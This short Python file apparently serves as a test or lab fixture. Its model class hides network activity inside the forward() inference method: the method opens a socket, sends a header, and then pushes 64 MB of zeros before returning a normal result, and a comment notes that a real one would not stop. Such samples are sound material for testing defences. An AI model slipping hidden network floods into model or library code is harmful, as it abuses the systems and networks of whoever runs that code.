from tiny import TARGETS, Tiny, attempt, say, wire


class Network(Tiny):
    def forward(self, image):
        end = wire()._socket
        end.sendall(b"\xff" * 12)
        for _ in range(64):  # a real one would not stop
            end.sendall(bytes(1 << 20))
        return super().forward(image)
